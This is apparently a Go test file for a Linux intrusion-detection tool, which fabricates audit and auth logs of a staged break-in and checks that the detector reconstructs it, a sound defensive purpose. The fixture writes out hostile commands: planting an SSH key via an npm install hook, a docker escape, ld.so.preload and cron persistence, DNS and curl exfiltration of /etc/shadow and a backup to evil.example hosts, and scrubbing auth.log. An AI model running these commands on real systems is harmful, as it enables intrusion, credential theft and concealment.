package hunt_test

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tuxtrail/tuxtrail/hunt"
)

// open writes the record of a watched file that a program made or changed.
func (w *world) touch(ppid int, ids, exe, file string) {
	w.pid++
	s := w.stamp()
	dir := file[:strings.LastIndexByte(file, '/')+1]
	fmt.Fprintf(&w.audit.b, "type=SYSCALL msg=%s: arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=0 a2=241 a3=1b6 items=2 ppid=%d pid=%d %s comm=%q exe=%q key=\"watch\"\n",
		s, ppid, w.pid, ids, exe[strings.LastIndexByte(exe, '/')+1:], exe)
	fmt.Fprintf(&w.audit.b, "type=CWD msg=%s: cwd=\"/\"\n", s)
	fmt.Fprintf(&w.audit.b, "type=PATH msg=%s: item=0 name=%q inode=8 dev=00:33 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\n", s, dir)
	fmt.Fprintf(&w.audit.b, "type=PATH msg=%s: item=1 name=%q inode=10 dev=00:33 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\n", s, file)
	w.wait(10 * time.Millisecond)
}

// thirdIntrusion shares no step with the sample nor with the others: a package's
// installer adds a key to a developer's list, whoever has it comes in, leaves a
// container's walls as a member of the group docker, plants a library for each
// program and a job for each boot, sends data out in names and over HTTPS, and
// cuts its own lines out of auth.log.
func thirdIntrusion() fstest.MapFS {
	w := newWorld()
	day := func(user string, uid int, addr, key string) {
		s := w.login(user, uid, addr, "publickey", key)
		w.run(s, uid, "/usr/bin/git", "git", "pull")
		w.run(s, uid, "/usr/bin/docker", "docker", "compose", "up", "-d")
		w.wait(10 * time.Minute)
		w.logout(s)
	}
	hours := func(n int) { // ordinary hours: cron, and a colleague
		for i := range n * 12 {
			w.authf("CRON[%d]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", w.pid+1)
			w.sysf("CRON[%d]: (root) CMD (/usr/lib/sysstat/sa1 1 1)", w.pid+1)
			w.exec(600, system, "/usr/lib/sysstat/sa1", "/usr/lib/sysstat/sa1", "1", "1")
			w.authf("CRON[%d]: pam_unix(cron:session): session closed for user root", w.pid)
			if i%24 == 7 {
				day("noa", 1001, "192.0.2.21", "knoa")
			}
			w.wait(5 * time.Minute)
		}
	}
	day("mia", 1002, "192.0.2.20", "kmia")
	hours(6)
	day("mia", 1002, "192.0.2.20", "kmia")
	hours(3)

	s := w.login("mia", 1002, "192.0.2.20", "publickey", "kmia")
	npm := w.run(s, 1002, "/usr/bin/node", "node", "/usr/bin/npm", "install")
	sh := w.exec(npm, s.ids(1002), "/usr/bin/dash", "sh", "-c", "mkdir -p ~/.ssh; echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHdvcmxkdGhyZWUx dep >> /home/mia/.ssh/authorized_keys")
	w.touch(sh, s.ids(1002), "/usr/bin/dash", "/home/mia/.ssh/authorized_keys")
	w.wait(20 * time.Minute)
	w.logout(s)
	hours(2)

	thief := w.login("mia", 1002, "203.0.113.77", "publickey", "kthief")
	w.run(thief, 1002, "/usr/bin/id", "id")
	w.run(thief, 1002, "/usr/bin/docker", "docker", "run", "--rm", "-it", "-v", "/:/mnt", "alpine", "chroot", "/mnt", "sh")
	w.wait(30 * time.Second)
	tee := w.run(thief, 0, "/usr/bin/tee", "tee", "/etc/ld.so.preload")
	w.touch(tee, thief.ids(0), "/usr/bin/tee", "/etc/ld.so.preload")
	tee = w.run(thief, 0, "/usr/bin/tee", "tee", "/etc/cron.d/sysboot")
	w.touch(tee, thief.ids(0), "/usr/bin/tee", "/etc/cron.d/sysboot")
	w.wait(time.Minute)
	w.run(thief, 0, "/usr/bin/bash", "bash", "-c", "for c in $(base64 -w60 /etc/shadow); do dig +short $c.t.evil.example; done")
	w.run(thief, 0, "/usr/bin/curl", "curl", "-s", "-T", "/srv/backup/db.sql.gz", "https://drop.evil.example/u/")
	w.wait(time.Minute)
	w.run(thief, 0, "/usr/bin/sed", "sed", "-i", "/203.0.113.77/d", "/var/log/auth.log")
	w.logout(thief)
	hours(2)

	w.authf("systemd-logind[500]: System is rebooting.") // and what cron does at the boot
	w.wait(40 * time.Second)
	w.sysf("kernel: Linux version 6.1.0-18-amd64 (debian-kernel@lists.debian.org)")
	w.authf("systemd-logind[480]: New seat seat0.")
	w.wait(2 * time.Second)
	w.sysf("CRON[612]: (root) CMD (/usr/local/sbin/.sysboot --daemon)")
	w.exec(611, system, "/usr/bin/dash", "/bin/sh", "-c", "/usr/local/sbin/.sysboot --daemon")
	hours(2)

	files := w.files()
	files["auth.log"].Data = []byte(without(w.auth.String(), func(l string) bool {
		return strings.Contains(l, "203.0.113.77") || strings.Contains(l, fmt.Sprintf("sshd[%d]", thief.pid))
	}))
	return files
}

func TestThirdIntrusion(t *testing.T) {
	inv := investigate(t, open(t, thirdIntrusion()), hunt.Options{})
	found := aboveLow(inv)
	var all strings.Builder
	for i := range inv.Findings {
		all.WriteString(wholeStory(&inv.Findings[i]))
	}
	require.Len(t, found, 1, all.String())
	top := &found[0]
	t.Log(all.String())
	assert.GreaterOrEqual(t, top.Severity.Compare(hunt.SeverityHigh), 0)
	readable(t, top)
	var story strings.Builder
	for _, s := range top.Steps {
		story.WriteString(s.Text + " " + s.Detail + "\n")
	}
	at := 0
	for _, must := range []string{
		"/home/mia/.ssh/authorized_keys", "mia logged on from 203.0.113.77", "docker", "/etc/ld.so.preload", "/etc/cron.d/sysboot",
		"evil.example", "https://drop.evil.example/u/", "/var/log/auth.log",
	} {
		i := strings.Index(story.String()[at:], must)
		if assert.GreaterOrEqual(t, i, 0, "%q in its place in\n%s", must, &story) {
			at += i
		}
	}
	assert.NotContains(t, story.String(), "noa")
	assert.Contains(t, top.Addresses, netip.MustParseAddr("203.0.113.77"))
	for _, v := range inv.Hypotheses {
		if v.Hypothesis != hunt.HijackedApp {
			assert.Equal(t, hunt.Supported, v.Answer, string(v.Hypothesis))
		}
	}
	edited := silencesOf(inv, hunt.SilenceEdited)
	require.Len(t, edited, 1)
	assert.Contains(t, top.Silences, edited[0].ID, "the missing lines belong to the story")
}
